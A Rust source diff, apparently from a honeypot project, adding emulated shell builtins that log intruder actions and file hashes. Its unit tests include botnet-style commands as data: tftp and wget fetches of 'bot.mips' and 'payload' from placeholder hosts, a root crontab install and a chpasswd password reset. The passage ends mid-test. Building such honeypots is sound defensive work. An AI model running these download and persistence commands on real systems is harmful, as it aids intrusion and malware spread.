@@ -1,0 +1,923 @@
+//! Emulated commands ("known" commands in Cowrie's terminology).
+//!
+//! Each builtin receives a [`Ctx`] with mutable access to the session's VFS,
+//! working directory, fetcher, and event log, plus its argv and stdin text,
+//! and returns the stdout it would print. Commands not in the table return
+//! `None`, which the interpreter records as an *unknown* command — that
+//! known/unknown distinction is part of the honeypot's logged data model.
+
+use hf_hash::Sha256;
+
+use crate::interp::{FileEvent, FileOp, RemoteFetcher};
+use crate::profile::SystemProfile;
+use crate::uri;
+use crate::vfs::{resolve_path, Vfs};
+
+/// Execution context handed to builtins.
+pub struct Ctx<'a> {
+    /// The session filesystem.
+    pub vfs: &'a mut Vfs,
+    /// Current working directory (mutable: `cd` changes it).
+    pub cwd: &'a mut String,
+    /// Machine identity for sysinfo output.
+    pub profile: &'a SystemProfile,
+    /// Remote body supplier for transfer tools.
+    pub fetcher: &'a mut dyn RemoteFetcher,
+    /// File-event sink (create/modify with hash).
+    pub file_events: &'a mut Vec<FileEvent>,
+    /// Completed downloads sink: (uri, body hash).
+    pub downloads: &'a mut Vec<(String, hf_hash::Digest)>,
+    /// Set to true by `exit`/`logout`.
+    pub exited: &'a mut bool,
+}
+
+impl Ctx<'_> {
+    fn abs(&self, p: &str) -> String {
+        resolve_path(self.cwd, p)
+    }
+
+    /// Write a file and record the event.
+    fn write_recorded(&mut self, abs: &str, content: &[u8], mode: u32) {
+        if abs == "/dev/null" {
+            return;
+        }
+        if let Ok(existed) = self.vfs.write_file(abs, content, mode) {
+            let hash = Sha256::digest(self.vfs.read_file(abs).unwrap());
+            self.file_events.push(FileEvent {
+                path: abs.to_string(),
+                op: if existed { FileOp::Modified } else { FileOp::Created },
+                size: content.len(),
+                sha256: hash,
+            });
+        }
+    }
+}
+
+/// Output of a builtin.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CmdOutput {
+    /// Text printed to the terminal.
+    pub stdout: String,
+    /// Whether the command was emulated (true) or merely recorded (false).
+    pub known: bool,
+}
+
+impl CmdOutput {
+    /// An emulated command's output.
+    pub fn known(stdout: String) -> Self {
+        CmdOutput { stdout, known: true }
+    }
+
+    /// An unknown command's output.
+    pub fn unknown(stdout: String) -> Self {
+        CmdOutput { stdout, known: false }
+    }
+}
+
+/// Run a builtin; `None` means the command is not emulated.
+pub fn run(ctx: &mut Ctx, argv: &[String], stdin: &str) -> Option<CmdOutput> {
+    let name = argv[0].as_str();
+    let args: Vec<&str> = argv[1..].iter().map(|s| s.as_str()).collect();
+    let out = match name {
+        "busybox" if !args.is_empty() => {
+            // `busybox CMD args...` dispatches to CMD.
+            let inner: Vec<String> = argv[1..].to_vec();
+            return run(ctx, &inner, stdin).or(Some(CmdOutput::known(format!(
+                "{}: applet not found\n",
+                args[0]
+            ))));
+        }
+        "busybox" => busybox_banner(),
+        "echo" => echo(&args),
+        "cat" => cat(ctx, &args, stdin),
+        "uname" => uname(ctx.profile, &args),
+        "free" => free(ctx.profile, &args),
+        "w" | "who" => w_output(ctx.profile),
+        "whoami" => "root\n".to_string(),
+        "id" => "uid=0(root) gid=0(root) groups=0(root)\n".to_string(),
+        "uptime" => " 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\n".to_string(),
+        "ps" => ps_output(&args),
+        "nproc" => format!("{}\n", ctx.profile.cpu_cores),
+        "lscpu" => lscpu(ctx.profile),
+        "hostname" => format!("{}\n", ctx.profile.hostname),
+        "ifconfig" => ifconfig(),
+        "pwd" => format!("{}\n", ctx.cwd),
+        "cd" => cd(ctx, &args),
+        "ls" => ls(ctx, &args),
+        "mkdir" => mkdir(ctx, &args),
+        "rm" => rm(ctx, &args),
+        "rmdir" => rm(ctx, &args),
+        "cp" => cp(ctx, &args),
+        "mv" => mv(ctx, &args),
+        "touch" => touch(ctx, &args),
+        "chmod" => chmod(ctx, &args),
+        "head" => head_tail(ctx, &args, stdin, true),
+        "tail" => head_tail(ctx, &args, stdin, false),
+        "grep" => grep(ctx, &args, stdin),
+        "wc" => wc(stdin),
+        "dd" => dd(ctx, &args, stdin),
+        "df" => df(),
+        "mount" => mount(),
+        "top" => top(ctx.profile),
+        "history" => String::new(),
+        "which" => which(ctx, &args),
+        "export" | "set" | "unset" | "alias" => String::new(),
+        "sleep" | "sync" => String::new(),
+        "kill" | "killall" | "pkill" => String::new(),
+        "su" => String::new(),
+        "passwd" => passwd(ctx, &args),
+        "chpasswd" => chpasswd(ctx, stdin),
+        "crontab" => crontab(ctx, &args, stdin),
+        "wget" => wget(ctx, &args),
+        "curl" => curl(ctx, &args),
+        "tftp" => tftp(ctx, argv),
+        "ftpget" => ftpget(ctx, argv),
+        "scp" => String::new(),
+        "ping" => ping(&args),
+        "iptables" | "service" | "systemctl" | "ulimit" => String::new(),
+        "exit" | "logout" => {
+            *ctx.exited = true;
+            String::new()
+        }
+        "yes" => "y\ny\ny\n".to_string(),
+        "awk" | "sed" | "tr" | "cut" | "sort" | "uniq" | "xargs" => {
+            // Text tools: pass stdin through — good enough for the scripts
+            // intruders chain them into.
+            stdin.to_string()
+        }
+        _ => return None,
+    };
+    Some(CmdOutput::known(out))
+}
+
+// ---- sysinfo ---------------------------------------------------------------
+
+fn busybox_banner() -> String {
+    "BusyBox v1.31.1 (2020-02-25 13:33:41 UTC) multi-call binary.\nUsage: busybox [function [arguments]...]\n".to_string()
+}
+
+fn uname(p: &SystemProfile, args: &[&str]) -> String {
+    if args.is_empty() {
+        return "Linux\n".to_string();
+    }
+    match args[0] {
+        "-a" | "--all" => format!("{}\n", p.uname_all()),
+        "-r" => format!("{}\n", p.kernel_version),
+        "-m" | "-p" => format!("{}\n", p.arch),
+        "-n" => format!("{}\n", p.hostname),
+        "-s" => "Linux\n".to_string(),
+        _ => "Linux\n".to_string(),
+    }
+}
+
+fn free(p: &SystemProfile, args: &[&str]) -> String {
+    let (total, unit) = if args.contains(&"-m") {
+        (p.mem_total_mb, "M")
+    } else {
+        (p.mem_total_mb * 1024, "k")
+    };
+    let used = total * 2 / 5;
+    let free = total - used;
+    format!(
+        "              total        used        free      shared  buff/cache   available ({unit})\nMem:     {total:>10}  {used:>10}  {free:>10}           0           0  {free:>10}\nSwap:             0           0           0\n"
+    )
+}
+
+fn w_output(p: &SystemProfile) -> String {
+    format!(
+        " 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\nroot     pts/0    {}       11:02    0.00s  0.00s  0.00s w\n",
+        p.hostname
+    )
+}
+
+fn ps_output(args: &[&str]) -> String {
+    let wide = args.iter().any(|a| a.contains('a') || a.contains('x'));
+    let mut out = String::from("  PID TTY          TIME CMD\n");
+    out.push_str("    1 ?        00:00:01 init\n");
+    if wide {
+        out.push_str("  402 ?        00:00:00 telnetd\n  403 ?        00:00:00 dropbear\n");
+    }
+    out.push_str(" 1432 pts/0    00:00:00 sh\n 1448 pts/0    00:00:00 ps\n");
+    out
+}
+
+fn lscpu(p: &SystemProfile) -> String {
+    format!(
+        "Architecture:        {}\nCPU(s):              {}\nModel name:          {}\n",
+        p.arch, p.cpu_cores, p.cpu_model
+    )
+}
+
+fn ifconfig() -> String {
+    "eth0      Link encap:Ethernet  HWaddr 52:54:00:12:34:56\n          inet addr:192.168.1.104  Bcast:192.168.1.255  Mask:255.255.255.0\n          UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n".to_string()
+}
+
+fn df() -> String {
+    "Filesystem     1K-blocks    Used Available Use% Mounted on\n/dev/root        7158264 1683176   5103652  25% /\ntmpfs             512000       0    512000   0% /tmp\n".to_string()
+}
+
+fn mount() -> String {
+    "/dev/root on / type ext4 (rw,relatime)\nproc on /proc type proc (rw)\ntmpfs on /tmp type tmpfs (rw)\n".to_string()
+}
+
+fn top(p: &SystemProfile) -> String {
+    format!(
+        "top - 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\nTasks:  34 total,   1 running,  33 sleeping\nMem: {}k total\n  PID USER      PR  NI    VIRT    RES  %CPU %MEM     TIME+ COMMAND\n    1 root      20   0    2344   1552   0.0  0.2   0:01.02 init\n",
+        p.mem_total_mb * 1024
+    )
+}
+
+fn ping(args: &[&str]) -> String {
+    let host = args.iter().find(|a| !a.starts_with('-')).copied().unwrap_or("127.0.0.1");
+    format!(
+        "PING {host} ({host}): 56 data bytes\n64 bytes from {host}: seq=0 ttl=64 time=0.4 ms\n64 bytes from {host}: seq=1 ttl=64 time=0.4 ms\n--- {host} ping statistics ---\n2 packets transmitted, 2 packets received, 0% packet loss\n"
+    )
+}
+
+// ---- text/file ops ----------------------------------------------------------
+
+fn echo(args: &[&str]) -> String {
+    let mut args = args.to_vec();
+    let mut newline = true;
+    let mut interpret = false;
+    while let Some(first) = args.first() {
+        match *first {
+            "-n" => {
+                newline = false;
+                args.remove(0);
+            }
+            "-e" => {
+                interpret = true;
+                args.remove(0);
+            }
+            _ => break,
+        }
+    }
+    let mut s = args.join(" ");
+    if interpret {
+        s = s.replace("\\n", "\n").replace("\\t", "\t").replace("\\r", "\r");
+    }
+    if newline {
+        s.push('\n');
+    }
+    s
+}
+
+fn cat(ctx: &mut Ctx, args: &[&str], stdin: &str) -> String {
+    let files: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
+    if files.is_empty() {
+        return stdin.to_string();
+    }
+    let mut out = String::new();
+    for f in files {
+        let abs = ctx.abs(f);
+        match ctx.vfs.read_file(&abs) {
+            Ok(c) => out.push_str(&String::from_utf8_lossy(c)),
+            Err(e) => out.push_str(&format!("cat: {e}\n")),
+        }
+    }
+    out
+}
+
+fn cd(ctx: &mut Ctx, args: &[&str]) -> String {
+    let target = args.first().copied().unwrap_or("/root");
+    let abs = ctx.abs(target);
+    if ctx.vfs.is_dir(&abs) {
+        *ctx.cwd = abs;
+        String::new()
+    } else {
+        format!("-bash: cd: {target}: No such file or directory\n")
+    }
+}
+
+fn ls(ctx: &mut Ctx, args: &[&str]) -> String {
+    let long = args.iter().any(|a| a.starts_with('-') && a.contains('l'));
+    let all = args.iter().any(|a| a.starts_with('-') && a.contains('a'));
+    let target = args.iter().find(|a| !a.starts_with('-')).copied().unwrap_or(".");
+    let abs = ctx.abs(target);
+    if !ctx.vfs.exists(&abs) {
+        return format!("ls: {target}: No such file or directory\n");
+    }
+    if !ctx.vfs.is_dir(&abs) {
+        return format!("{target}\n");
+    }
+    let mut names = ctx.vfs.list(&abs).unwrap_or_default();
+    if all {
+        names.insert(0, "..".to_string());
+        names.insert(0, ".".to_string());
+    }
+    if long {
+        let mut out = String::new();
+        for n in names {
+            let p = format!("{}/{}", abs.trim_end_matches('/'), n);
+            let is_dir = n == "." || n == ".." || ctx.vfs.is_dir(&p);
+            let mode = ctx.vfs.mode(&p).unwrap_or(0o755);
+            let size = ctx.vfs.size(&p).unwrap_or(0);
+            out.push_str(&format!(
+                "{}{} 1 root root {:>8} Jan  1 00:00 {}\n",
+                if is_dir { 'd' } else { '-' },
+                render_mode(mode),
+                size,
+                n
+            ));
+        }
+        out
+    } else if names.is_empty() {
+        String::new()
+    } else {
+        format!("{}\n", names.join("  "))
+    }
+}
+
+fn render_mode(mode: u32) -> String {
+    let mut s = String::with_capacity(9);
+    for shift in [6u32, 3, 0] {
+        let bits = (mode >> shift) & 7;
+        s.push(if bits & 4 != 0 { 'r' } else { '-' });
+        s.push(if bits & 2 != 0 { 'w' } else { '-' });
+        s.push(if bits & 1 != 0 { 'x' } else { '-' });
+    }
+    s
+}
+
+fn mkdir(ctx: &mut Ctx, args: &[&str]) -> String {
+    let mut out = String::new();
+    for a in args.iter().filter(|a| !a.starts_with('-')) {
+        let abs = ctx.abs(a);
+        let parents = args.contains(&"-p");
+        if !parents && ctx.vfs.exists(&abs) {
+            out.push_str(&format!("mkdir: can't create directory '{a}': File exists\n"));
+            continue;
+        }
+        let _ = ctx.vfs.mkdir_p(&abs);
+    }
+    out
+}
+
+fn rm(ctx: &mut Ctx, args: &[&str]) -> String {
+    let force = args.iter().any(|a| a.starts_with('-') && a.contains('f'));
+    let mut out = String::new();
+    for a in args.iter().filter(|a| !a.starts_with('-')) {
+        let abs = ctx.abs(a);
+        if ctx.vfs.remove(&abs).is_err() && !force {
+            out.push_str(&format!("rm: can't remove '{a}': No such file or directory\n"));
+        }
+    }
+    out
+}
+
+fn cp(ctx: &mut Ctx, args: &[&str]) -> String {
+    let pos: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
+    if pos.len() < 2 {
+        return "cp: missing file operand\n".to_string();
+    }
+    let from = ctx.abs(pos[0]);
+    let to = ctx.abs(pos[1]);
+    match ctx.vfs.copy_file(&from, &to) {
+        Ok(existed) => {
+            let dest = if ctx.vfs.is_dir(&to) {
+                format!("{}/{}", to.trim_end_matches('/'), from.rsplit('/').next().unwrap())
+            } else {
+                to
+            };
+            let hash = Sha256::digest(ctx.vfs.read_file(&dest).unwrap());
+            let size = ctx.vfs.size(&dest).unwrap_or(0);
+            ctx.file_events.push(FileEvent {
+                path: dest,
+                op: if existed { FileOp::Modified } else { FileOp::Created },
+                size,
+                sha256: hash,
+            });
+            String::new()
+        }
+        Err(e) => format!("cp: {e}\n"),
+    }
+}
+
+fn mv(ctx: &mut Ctx, args: &[&str]) -> String {
+    let out = cp(ctx, args);
+    if out.is_empty() {
+        let pos: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
+        let from = ctx.abs(pos[0]);
+        let _ = ctx.vfs.remove(&from);
+        String::new()
+    } else {
+        out.replace("cp:", "mv:")
+    }
+}
+
+fn touch(ctx: &mut Ctx, args: &[&str]) -> String {
+    for a in args.iter().filter(|a| !a.starts_with('-')) {
+        let abs = ctx.abs(a);
+        if !ctx.vfs.exists(&abs) {
+            ctx.write_recorded(&abs, b"", 0o644);
+        }
+    }
+    String::new()
+}
+
+fn chmod(ctx: &mut Ctx, args: &[&str]) -> String {
+    let pos: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-') || a.len() <= 1).collect();
+    if pos.len() < 2 {
+        return "chmod: missing operand\n".to_string();
+    }
+    let mode = u32::from_str_radix(pos[0], 8).unwrap_or(0o755);
+    let mut out = String::new();
+    for target in &pos[1..] {
+        let abs = ctx.abs(target);
+        if ctx.vfs.chmod(&abs, mode).is_err() {
+            out.push_str(&format!(
+                "chmod: {target}: No such file or directory\n"
+            ));
+        }
+    }
+    out
+}
+
+fn head_tail(ctx: &mut Ctx, args: &[&str], stdin: &str, head: bool) -> String {
+    let mut n = 10usize;
+    let mut file = None;
+    let mut it = args.iter().peekable();
+    while let Some(a) = it.next() {
+        if *a == "-n" {
+            if let Some(v) = it.next() {
+                n = v.parse().unwrap_or(10);
+            }
+        } else if let Some(num) = a.strip_prefix('-') {
+            if let Ok(v) = num.parse() {
+                n = v;
+            }
+        } else {
+            file = Some(*a);
+        }
+    }
+    let text = match file {
+        Some(f) => {
+            let abs = ctx.abs(f);
+            match ctx.vfs.read_file(&abs) {
+                Ok(c) => String::from_utf8_lossy(c).into_owned(),
+                Err(e) => return format!("head: {e}\n"),
+            }
+        }
+        None => stdin.to_string(),
+    };
+    let lines: Vec<&str> = text.lines().collect();
+    let slice: Vec<&str> = if head {
+        lines.iter().take(n).copied().collect()
+    } else {
+        lines.iter().rev().take(n).rev().copied().collect()
+    };
+    if slice.is_empty() {
+        String::new()
+    } else {
+        format!("{}\n", slice.join("\n"))
+    }
+}
+
+fn grep(ctx: &mut Ctx, args: &[&str], stdin: &str) -> String {
+    let pos: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
+    let Some(pattern) = pos.first() else {
+        return String::new();
+    };
+    let invert = args.contains(&"-v");
+    let text = match pos.get(1) {
+        Some(f) => {
+            let abs = ctx.abs(f);
+            match ctx.vfs.read_file(&abs) {
+                Ok(c) => String::from_utf8_lossy(c).into_owned(),
+                Err(e) => return format!("grep: {e}\n"),
+            }
+        }
+        None => stdin.to_string(),
+    };
+    let mut out = String::new();
+    for line in text.lines() {
+        if line.contains(**pattern) != invert {
+            out.push_str(line);
+            out.push('\n');
+        }
+    }
+    out
+}
+
+fn wc(stdin: &str) -> String {
+    let lines = stdin.lines().count();
+    let words = stdin.split_whitespace().count();
+    let bytes = stdin.len();
+    format!("{lines:>8}{words:>8}{bytes:>8}\n")
+}
+
+fn dd(ctx: &mut Ctx, args: &[&str], stdin: &str) -> String {
+    let kv = |key: &str| {
+        args.iter()
+            .find_map(|a| a.strip_prefix(&format!("{key}=")).map(|v| v.to_string()))
+    };
+    let input = match kv("if") {
+        Some(f) => {
+            let abs = ctx.abs(&f);
+            match ctx.vfs.read_file(&abs) {
+                Ok(c) => c.to_vec(),
+                Err(e) => return format!("dd: {e}\n"),
+            }
+        }
+        None => stdin.as_bytes().to_vec(),
+    };
+    // bs/count truncation, enough for the `dd bs=52 count=1` probes botnets use.
+    let bs: usize = kv("bs").and_then(|v| v.parse().ok()).unwrap_or(512);
+    let count: Option<usize> = kv("count").and_then(|v| v.parse().ok());
+    let taken: Vec<u8> = match count {
+        Some(c) => input.into_iter().take(bs * c).collect(),
+        None => input,
+    };
+    if let Some(of) = kv("of") {
+        let abs = ctx.abs(&of);
+        ctx.write_recorded(&abs, &taken, 0o644);
+        let blocks = taken.len().div_ceil(bs.max(1));
+        format!("{blocks}+0 records in\n{blocks}+0 records out\n")
+    } else {
+        String::from_utf8_lossy(&taken).into_owned()
+    }
+}
+
+fn which(ctx: &mut Ctx, args: &[&str]) -> String {
+    let mut out = String::new();
+    for a in args.iter().filter(|a| !a.starts_with('-')) {
+        for dir in ["/bin", "/sbin", "/usr/bin", "/usr/sbin"] {
+            let p = format!("{dir}/{a}");
+            if ctx.vfs.exists(&p) {
+                out.push_str(&p);
+                out.push('\n');
+                break;
+            }
+        }
+    }
+    out
+}
+
+// ---- accounts ---------------------------------------------------------------
+
+fn passwd(ctx: &mut Ctx, args: &[&str]) -> String {
+    let user = args.iter().find(|a| !a.starts_with('-')).copied().unwrap_or("root");
+    // Changing a password rewrites /etc/shadow → recorded file event.
+    let content = format!("{user}:$6$rounds=5000$changed$:18113:0:99999:7:::\n");
+    ctx.write_recorded("/etc/shadow", content.as_bytes(), 0o600);
+    format!("passwd: password for {user} changed by root\n")
+}
+
+fn chpasswd(ctx: &mut Ctx, stdin: &str) -> String {
+    // Each `user:pass` line rewrites shadow; content depends on input so
+    // campaigns using distinct passwords produce distinct hashes.
+    let mut shadow = String::new();
+    for line in stdin.lines() {
+        if let Some((user, pass)) = line.split_once(':') {
+            shadow.push_str(&format!("{user}:$6${}$:18113:0:99999:7:::\n", obfuscate(pass)));
+        }
+    }
+    if !shadow.is_empty() {
+        ctx.write_recorded("/etc/shadow", shadow.as_bytes(), 0o600);
+    }
+    String::new()
+}
+
+fn obfuscate(pass: &str) -> String {
+    Sha256::digest(pass.as_bytes()).short()
+}
+
+fn crontab(ctx: &mut Ctx, args: &[&str], stdin: &str) -> String {
+    if args.contains(&"-l") {
+        return "no crontab for root\n".to_string();
+    }
+    if args.contains(&"-r") {
+        let _ = ctx.vfs.remove("/var/spool/cron/root");
+        return String::new();
+    }
+    // `crontab FILE` or `crontab -` installs a crontab.
+    let content: Vec<u8> = match args.iter().find(|a| !a.starts_with('-')) {
+        Some(f) => {
+            let abs = ctx.abs(f);
+            match ctx.vfs.read_file(&abs) {
+                Ok(c) => c.to_vec(),
+                Err(e) => return format!("crontab: {e}\n"),
+            }
+        }
+        None => stdin.as_bytes().to_vec(),
+    };
+    if !content.is_empty() {
+        ctx.write_recorded("/var/spool/cron/root", &content, 0o600);
+    }
+    String::new()
+}
+
+// ---- transfer tools ----------------------------------------------------------
+
+fn download_to(ctx: &mut Ctx, uri: &str, dest_rel: &str) -> Result<usize, ()> {
+    let body = ctx.fetcher.fetch(uri).ok_or(())?;
+    let hash = Sha256::digest(&body);
+    ctx.downloads.push((uri.to_string(), hash));
+    let abs = ctx.abs(dest_rel);
+    let size = body.len();
+    ctx.write_recorded(&abs, &body, 0o644);
+    Ok(size)
+}
+
+fn basename_of_uri(uri: &str) -> String {
+    let tail = uri.rsplit('/').next().unwrap_or("index.html");
+    if tail.is_empty() || tail.contains("://") {
+        "index.html".to_string()
+    } else {
+        tail.to_string()
+    }
+}
+
+fn wget(ctx: &mut Ctx, args: &[&str]) -> String {
+    let Some(url) = args.iter().find(|a| a.contains("://")).copied() else {
+        return "wget: missing URL\n".to_string();
+    };
+    let dest = args
+        .windows(2)
+        .find(|w| w[0] == "-O" || w[0] == "-o")
+        .map(|w| w[1].to_string())
+        .unwrap_or_else(|| basename_of_uri(url));
+    match download_to(ctx, url, &dest) {
+        Ok(size) => format!(
+            "Connecting to {url}\n{dest}           100% |*******************************| {size}  0:00:00 ETA\n'{dest}' saved\n"
+        ),
+        Err(()) => format!("wget: can't connect to remote host: Connection refused\nwget: download failed: {url}\n"),
+    }
+}
+
+fn curl(ctx: &mut Ctx, args: &[&str]) -> String {
+    let Some(url) = args.iter().find(|a| a.contains("://")).copied() else {
+        return "curl: no URL specified!\n".to_string();
+    };
+    let to_file = args.contains(&"-O")
+        || args.windows(2).any(|w| w[0] == "-o");
+    if to_file {
+        let dest = args
+            .windows(2)
+            .find(|w| w[0] == "-o")
+            .map(|w| w[1].to_string())
+            .unwrap_or_else(|| basename_of_uri(url));
+        match download_to(ctx, url, &dest) {
+            Ok(_) => String::new(),
+            Err(()) => format!("curl: (7) Failed to connect to host: Connection refused\ncurl: download failed: {url}\n"),
+        }
+    } else {
+        // Body to stdout; still a download event (hash of the body).
+        match ctx.fetcher.fetch(url) {
+            Some(body) => {
+                ctx.downloads.push((url.to_string(), Sha256::digest(&body)));
+                String::from_utf8_lossy(&body).into_owned()
+            }
+            None => "curl: (7) Failed to connect to host: Connection refused\n".to_string(),
+        }
+    }
+}
+
+fn tftp(ctx: &mut Ctx, argv: &[String]) -> String {
+    let uris = uri::extract_from_argv(argv);
+    let Some(u) = uris.first() else {
+        return "tftp: usage: tftp -g -r FILE HOST\n".to_string();
+    };
+    let dest = basename_of_uri(&u.0);
+    match download_to(ctx, &u.0, &dest) {
+        Ok(_) => String::new(),
+        Err(()) => "tftp: timeout\n".to_string(),
+    }
+}
+
+fn ftpget(ctx: &mut Ctx, argv: &[String]) -> String {
+    let uris = uri::extract_from_argv(argv);
+    let Some(u) = uris.first() else {
+        return "ftpget: usage: ftpget HOST LOCAL REMOTE\n".to_string();
+    };
+    // busybox ftpget: LOCAL is the 2nd positional arg.
+    let pos: Vec<&String> = argv[1..].iter().filter(|a| !a.starts_with('-')).collect();
+    let dest = pos.get(1).map(|s| s.to_string()).unwrap_or_else(|| basename_of_uri(&u.0));
+    match download_to(ctx, &u.0, &dest) {
+        Ok(_) => String::new(),
+        Err(()) => "ftpget: can't connect to remote host: Connection refused\n".to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    
+    use crate::interp::{ShellSession, SyntheticFetcher};
+    use crate::profile::SystemProfile;
+
+    fn sh() -> ShellSession {
+        ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher))
+    }
+
+    #[test]
+    fn echo_flags() {
+        let mut s = sh();
+        assert_eq!(s.execute("echo hello").rendered, "hello\n");
+        assert_eq!(s.execute("echo -n hi").rendered, "hi");
+        assert_eq!(s.execute("echo -e 'a\\tb'").rendered, "a\tb\n");
+    }
+
+    #[test]
+    fn cat_file_and_missing() {
+        let mut s = sh();
+        let out = s.execute("cat /etc/passwd").rendered;
+        assert!(out.contains("root:x:0:0"));
+        let miss = s.execute("cat /nope").rendered;
+        assert!(miss.contains("No such file"));
+    }
+
+    #[test]
+    fn uname_variants() {
+        let mut s = sh();
+        assert_eq!(s.execute("uname").rendered, "Linux\n");
+        assert_eq!(s.execute("uname -m").rendered, "x86_64\n");
+        assert_eq!(s.execute("uname -r").rendered, "4.14.67\n");
+    }
+
+    #[test]
+    fn free_and_nproc() {
+        let mut s = sh();
+        assert!(s.execute("free -m").rendered.contains("Mem:"));
+        assert_eq!(s.execute("nproc").rendered, "2\n");
+    }
+
+    #[test]
+    fn cd_pwd_ls() {
+        let mut s = sh();
+        s.execute("cd /tmp");
+        assert_eq!(s.execute("pwd").rendered, "/tmp\n");
+        let err = s.execute("cd /no/dir").rendered;
+        assert!(err.contains("No such file"));
+        let ls = s.execute("ls /bin").rendered;
+        assert!(ls.contains("busybox"));
+        let lsl = s.execute("ls -la /bin").rendered;
+        assert!(lsl.contains("rwxr-xr-x"));
+    }
+
+    #[test]
+    fn mkdir_rm_touch() {
+        let mut s = sh();
+        s.execute("mkdir -p /a/b/c");
+        assert!(s.vfs().is_dir("/a/b/c"));
+        s.execute("touch /a/b/c/f");
+        assert!(s.vfs().exists("/a/b/c/f"));
+        s.execute("rm -rf /a");
+        assert!(!s.vfs().exists("/a"));
+        // touch records a file event
+        let ev = s.take_events();
+        assert!(ev.file_events.iter().any(|e| e.path == "/a/b/c/f"));
+    }
+
+    #[test]
+    fn chmod_octal() {
+        let mut s = sh();
+        s.execute("touch /tmp/b; chmod 777 /tmp/b");
+        assert_eq!(s.vfs().mode("/tmp/b"), Some(0o777));
+    }
+
+    #[test]
+    fn cp_and_mv_record_events() {
+        let mut s = sh();
+        s.execute("echo payload > /tmp/a");
+        s.execute("cp /tmp/a /tmp/b");
+        s.execute("mv /tmp/b /var/c");
+        assert!(!s.vfs().exists("/tmp/b"));
+        assert!(s.vfs().exists("/var/c"));
+        let ev = s.take_events();
+        let paths: Vec<&str> = ev.file_events.iter().map(|e| e.path.as_str()).collect();
+        assert!(paths.contains(&"/tmp/b"));
+        assert!(paths.contains(&"/var/c"));
+        // cp preserves content → same hash for all three events
+        let h: std::collections::BTreeSet<_> = ev.file_events.iter().map(|e| e.sha256).collect();
+        assert_eq!(h.len(), 1);
+    }
+
+    #[test]
+    fn head_tail_grep_wc() {
+        let mut s = sh();
+        s.execute("echo -e 'l1\\nl2\\nl3\\nl4' > /tmp/t");
+        assert_eq!(s.execute("head -2 /tmp/t").rendered, "l1\nl2\n");
+        assert_eq!(s.execute("tail -n 1 /tmp/t").rendered, "l4\n");
+        assert_eq!(s.execute("grep l3 /tmp/t").rendered, "l3\n");
+        assert_eq!(s.execute("cat /tmp/t | grep -v l2 | head -1").rendered, "l1\n");
+        assert_eq!(s.execute("cat /tmp/t | wc").rendered, "       4       4      12\n");
+    }
+
+    #[test]
+    fn dd_copies_and_truncates() {
+        let mut s = sh();
+        s.execute("echo 0123456789 > /tmp/src");
+        s.execute("dd if=/tmp/src of=/tmp/dst bs=4 count=1");
+        assert_eq!(s.vfs().read_file("/tmp/dst").unwrap(), b"0123");
+    }
+
+    #[test]
+    fn busybox_dispatch() {
+        let mut s = sh();
+        assert_eq!(s.execute("busybox echo hi").rendered, "hi\n");
+        assert!(s.execute("busybox").rendered.contains("BusyBox"));
+        // Unknown applet handled gracefully and still "known".
+        assert!(s.execute("busybox zzz").rendered.contains("applet not found"));
+    }
+
+    #[test]
+    fn which_finds_binaries() {
+        let mut s = sh();
+        assert_eq!(s.execute("which wget").rendered, "/bin/wget\n");
+        assert_eq!(s.execute("which doesnotexist").rendered, "");
+    }
+
+    #[test]
+    fn chpasswd_changes_shadow_hash_per_password() {
+        let mut s1 = sh();
+        s1.execute("echo root:pass1 | chpasswd");
+        let e1 = s1.take_events();
+        let mut s2 = sh();
+        s2.execute("echo root:pass2 | chpasswd");
+        let e2 = s2.take_events();
+        assert_eq!(e1.file_events.len(), 1);
+        assert_eq!(e1.file_events[0].path, "/etc/shadow");
+        assert_ne!(e1.file_events[0].sha256, e2.file_events[0].sha256);
+    }
+
+    #[test]
+    fn crontab_install() {
+        let mut s = sh();
+        s.execute("echo '* * * * * /tmp/m' > /tmp/cr; crontab /tmp/cr");
+        assert!(s.vfs().exists("/var/spool/cron/root"));
+        assert_eq!(s.execute("crontab -l").rendered, "no crontab for root\n");
+    }
+
+    #[test]
+    fn tftp_and_ftpget_download() {
+        let mut s = sh();
+        s.execute("cd /tmp; tftp -g -r bot.mips 198.51.100.7");
+        assert!(s.vfs().exists("/tmp/bot.mips"));
+        s.execute("cd /tmp; ftpget 203.0.113.5 local.bin remote.bin");
+        assert!(s.vfs().exists("/tmp/local.bin"));
+        let ev = s.take_events();
+        assert_eq!(ev.downloads.len(), 2);
+    }
+
+    #[test]
+    fn curl_stdout_vs_file() {
+        let mut s = sh();
+        let out = s.execute("curl http://h/body").rendered;
+        assert!(out.contains("synthetic"));
+        s.execute("cd /tmp && curl -O http://h/file.bin");
+        assert!(s.vfs().exists("/tmp/file.bin"));
+    }
+
+    #[test]
+    fn wget_custom_output() {
+        let mut s = sh();
+        s.execute("wget -O /var/run/.x http://h/payload");
+        assert!(s.vfs().exists("/var/run/.x"));
+    }
+
+    #[test]
+    fn passwd_changes_shadow() {
+        let mut s = sh();
+        let out = s.execute("passwd").rendered;
+        assert!(out.contains("changed"));
+        let ev = s.take_events();
+        assert_eq!(ev.file_events[0].path, "/etc/shadow");
+    }
+
+    #[test]
+    fn nohup_and_sudo_prefixes() {
+        let mut s = sh();
+        assert_eq!(s.execute("sudo echo ok").rendered, "ok\n");
+        assert_eq!(s.execute("nohup uname").rendered, "Linux\n");
+    }
+
+    #[test]
+    fn text_tools_pass_through() {
+        let mut s = sh();
+        let out = s.execute("echo keepme | awk '{print $1}'").rendered;
+        assert_eq!(out, "keepme\n");
+    }
+
+    #[test]
+    fn sysinfo_surface() {
+        let mut s = sh();
+        for (cmd, needle) in [
+            ("w", "load average"),
+            ("whoami", "root"),
+            ("id", "uid=0"),
+            ("uptime", "up"),
+            ("ps x", "telnetd"),
+            ("lscpu", "Architecture"),
+            ("ifconfig", "eth0"),
